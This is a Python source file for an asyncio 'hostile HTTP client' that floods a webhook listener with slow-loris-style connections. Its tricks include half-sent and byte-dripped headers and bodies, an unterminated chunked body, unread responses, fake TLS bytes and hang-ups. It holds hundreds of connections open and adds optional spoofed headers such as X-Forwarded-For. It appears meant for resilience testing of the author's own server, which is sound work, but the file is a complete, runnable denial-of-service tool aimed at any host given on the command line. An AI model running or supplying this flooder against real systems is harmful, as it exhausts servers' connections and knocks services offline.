"""A hostile HTTP client: opens connections at a steady rate, misbehaves on each, and holds it open.

It signs nothing and knows no secret, like anybody on the network. Its tricks are those that a server with few
connections has to fear: they cost the client next to nothing, and the server a connection until it gives up.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import itertools
import json
import sys
from collections import Counter
from collections.abc import AsyncIterator, Sequence
from enum import StrEnum

HELD = 60.0
"""Seconds that it stays on a connection, unless the server ends it."""
DRIP = 0.1
"""Seconds between two bytes of a slow sender."""
MOST = 400
"""Connections that it holds at a time; beyond that it closes the oldest."""


class Trick(StrEnum):
    """What it does on a connection."""

    SILENT = "silent"
    """Sends nothing."""
    HALF_HEAD = "half-head"
    """Begins its headers and never ends them."""
    DRIPPING_HEAD = "dripping-head"
    """Sends a header byte by byte."""
    HALF_BODY = "half-body"
    """Announces a body, and sends its first byte."""
    DRIPPING_BODY = "dripping-body"
    """Sends a body byte by byte."""
    CHUNKED = "chunked"
    """Sends a chunk of a body that has no announced end, and no other."""
    UNREAD = "unread"
    """Sends a request, and never reads the answer."""
    GARBAGE = "garbage"
    """Sends bytes that are not HTTP."""
    HANG_UP = "hang-up"
    """Connects and closes."""


class HostileClient:
    """Attacks one address. `headers`: more lines for its head, such as what a proxy would add."""

    def __init__(
        self,
        host: str,
        port: int,
        *,
        path: str = "/hooks/host",
        tricks: Sequence[Trick] = tuple(Trick),
        headers: Sequence[str] = (),
    ) -> None:
        self.host, self.port, self.path = host, port, path
        self.tricks = tricks
        self.headers = "".join(f"{line}\r\n" for line in headers)
        self.opened = 0
        self.refused = 0
        self.ended: Counter[str] = Counter()
        """Connections that the server ended, by trick."""
        self._tasks: dict[asyncio.Task[None], None] = {}

    async def flood(self, rate: float, count: int | None = None) -> None:
        """Open `rate` connections a second, `count` in all or until it is cancelled."""
        loop = asyncio.get_running_loop()
        began = loop.time()
        numbers = itertools.count() if count is None else range(count)
        for number, trick in zip(numbers, itertools.cycle(self.tricks), strict=False):
            # By the clock, so that the attacker is no slower on a busy machine.
            await asyncio.sleep(max(0.0, began + number / rate - loop.time()))
            task = asyncio.create_task(self._attack(trick))
            self._tasks[task] = None
            task.add_done_callback(lambda done: self._tasks.pop(done, None))
            if len(self._tasks) > MOST:
                next(iter(self._tasks)).cancel()

    @contextlib.asynccontextmanager
    async def flooding(self, rate: float) -> AsyncIterator[None]:
        """Flood for as long as the block runs, and close every connection at its end."""
        task = asyncio.create_task(self.flood(rate))
        try:
            yield
        finally:
            task.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await task
            await self.close()

    async def close(self) -> None:
        """Close every connection."""
        tasks = list(self._tasks)
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)

    async def _attack(self, trick: Trick) -> None:
        try:
            reader, writer = await asyncio.open_connection(self.host, self.port)
        except OSError:
            self.refused += 1
            return
        self.opened += 1
        try:
            await self._play(trick, reader, writer)
        except (ConnectionError, TimeoutError):
            self.ended[trick] += 1
        finally:
            writer.transport.abort()

    async def _play(self, trick: Trick, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (
            f"POST {self.path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{self.headers}"
        ).encode()
        match trick:
            case Trick.SILENT:
                pass
            case Trick.HALF_HEAD:
                writer.write(head)
            case Trick.DRIPPING_HEAD:
                await self._drip(writer, head + b"X-Slow: ")
            case Trick.HALF_BODY:
                writer.write(head + b"Content-Length: 100000\r\n\r\n{")
            case Trick.DRIPPING_BODY:
                await self._drip(writer, head + b"Content-Length: 100000\r\n\r\n")
            case Trick.CHUNKED:
                writer.write(head + b"Transfer-Encoding: chunked\r\n\r\n1\r\n{\r\n")
            case Trick.UNREAD:
                reader = asyncio.StreamReader()
                writer.write(head + b"Content-Length: 0\r\n\r\n")
            case Trick.GARBAGE:
                writer.write(b"\x16\x03\x01\x00\xff" * 1000)
            case Trick.HANG_UP:
                return
        async with asyncio.timeout(HELD):
            while await reader.read(65536):
                pass
        self.ended[trick] += 1

    async def _drip(self, writer: asyncio.StreamWriter, head: bytes) -> None:
        writer.write(head)
        async with asyncio.timeout(HELD):
            while True:
                writer.write(b"x")
                await writer.drain()
                await asyncio.sleep(DRIP)

    def report(self) -> dict[str, object]:
        """Return what it did, for people and tests."""
        return {"opened": self.opened, "refused": self.refused, "ended": dict(self.ended)}


async def _main(arguments: argparse.Namespace) -> None:
    client = HostileClient(
        arguments.host, arguments.port, path=arguments.path, headers=arguments.header or ()
    )
    async with client.flooding(arguments.rate):
        async with asyncio.timeout(30):
            while client.opened + client.refused < arguments.rate:  # noqa: ASYNC110 - it tells nobody
                await asyncio.sleep(0.05)
        print("attacking", flush=True)  # noqa: T201
        await asyncio.to_thread(sys.stdin.read)  # until its end
    print(json.dumps(client.report()), flush=True)  # noqa: T201


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description="Floods a webhook listener until standard input ends.")
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--path", default="/hooks/host")
    parser.add_argument("--rate", type=float, default=100, help="connections a second")
    parser.add_argument("--header", action="append", help="a line for the head, such as X-Forwarded-For: …")
    asyncio.run(_main(parser.parse_args()))
